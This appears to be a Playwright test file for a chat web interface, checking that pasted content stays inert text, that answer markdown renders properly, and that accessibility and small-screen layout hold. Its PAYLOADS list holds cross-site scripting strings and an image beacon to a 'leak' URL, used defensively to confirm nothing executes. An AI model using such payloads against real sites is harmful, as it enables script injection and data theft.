"""Text that would like to be more than text; policies; accessibility; small screens."""

from __future__ import annotations

import collections.abc as cabc

import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import expect

from .site import Site
from .visit import Visit

pytestmark = pytest.mark.browser

Serve = cabc.Callable[..., Site]
Open = cabc.Callable[..., Visit]

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</script><script>alert(1)</script>",
    "<!--<script>",
    "<svg onload=alert(1)>",
    "\"' onmouseover=alert(1) x='",
    "[click](javascript:alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    '```"><img src=x onerror=alert(1)>\ncode\n```',
    "![<img src=x onerror=alert(1)>](x)",
    "![beacon](https://example.org/leak?text=secret)",
    "<details open ontoggle=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "{{ 7 * 7 }} {% raw %}",
    "\u2028 \u2029 \u202e reversed",
]


@pytest.mark.scenario("S154", "D30")
@pytest.mark.parametrize("plugin", ["sqlalchemy", None])
def test_payloads_stay_text(serve: Serve, visit: Open, plugin: str | None) -> None:
    here = visit(serve(CHAT_MEMORY_PLUGIN=plugin))
    for number, payload in enumerate(PAYLOADS):
        here.ask(f"echo {payload}")
        expect(here.page.locator(".chat-memory-message")).to_have_count(2 * number + 2)
        expect(here.part("stop")).to_be_hidden()
    here.page.reload()
    expect(here.page.locator(".chat-memory-message")).to_have_count(2 * len(PAYLOADS))
    questions = here.page.locator("[data-role=user] .chat-memory-text").all_text_contents()
    assert questions == [f"echo {payload}".strip() for payload in PAYLOADS]
    for link in here.page.locator(".chat-memory-text a").all():
        assert (link.get_attribute("href") or "").startswith(("https:", "http:", "mailto:"))
    assert here.page.locator(".chat-memory-message :is(img, script, svg, iframe, details)").count() == 0
    # The watched page has made no dialog, no request to another host and no violation of its policy.


def test_markdown_of_an_answer_becomes_elements(serve: Serve, visit: Open) -> None:
    here = visit(serve())
    here.ask("echo # Title\n\nsome **bold** and `code` in [a link](https://example.org/)\n\n- one\n- two\n\n> quoted")
    answer = here.page.locator("[data-role=ai] .chat-memory-text")
    for selector, text in (
        ("strong", "bold"),
        ("code", "code"),
        ("li:first-child", "one"),
        ("blockquote", "quoted"),
        ("a[href='https://example.org/'][rel~=noopener]", "a link"),
    ):
        expect(answer.locator(selector)).to_have_text(text)
    expect(answer.locator("h1, h2, h3, h4, h5, h6")).to_have_text("Title")
    question = here.page.locator("[data-role=user] .chat-memory-text")
    expect(question.locator("*")).to_have_count(0)


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_accessible_in_every_state(serve: Serve, visit: Open, scheme: str) -> None:
    here = visit(serve(CHAT_MEMORY_OPTIONS={"threads": "many"}), color_scheme=scheme)
    check(here)
    here.ask("echo some `code`\n\n```\na block\n```\n\n[link](https://example.org/)\n\n| a | b |\n|---|---|\n| 1 | 2 |")
    expect(here.page.locator(".chat-memory-text pre")).to_have_count(1)
    here.ask("fail")
    expect(here.part("alert")).not_to_be_empty()
    check(here)


@pytest.mark.parametrize("direction", ["ltr", "rtl"])
def test_a_phone_shows_it_without_scrolling_sideways(serve: Serve, visit: Open, direction: str) -> None:
    here = visit(serve(), f"/?dir={direction}", viewport={"width": 390, "height": 844}, has_touch=True)
    here.ask(f"echo {'verylongword' * 30}\n\n```\n{'code ' * 60}\n```\n\n{'| cell ' * 30}|\n{'|---' * 30}|")
    expect(here.page.locator(".chat-memory-message")).to_have_count(2)
    expect(here.part("stop")).to_be_hidden()
    here.part("input").fill("verylongword" * 40)
    assert here.page.evaluate("document.documentElement.scrollWidth") <= 390
    # What is scrolled inside the log does not make the page longer.
    height = here.page.evaluate("document.documentElement.scrollHeight")
    for number in range(8):
        here.ask(f"echo {number}")
        expect(here.page.locator(".chat-memory-message")).to_have_count(4 + 2 * number)
        expect(here.part("stop")).to_be_hidden()
    assert here.page.evaluate("document.documentElement.scrollHeight") == height
    for button in here.page.locator(".chat-memory button:visible").all():
        box = button.bounding_box()
        assert box is not None and box["height"] >= 44


def check(here: Visit) -> None:
    results = Axe().run(here.page)
    assert results.violations_count == 0, results.generate_report()
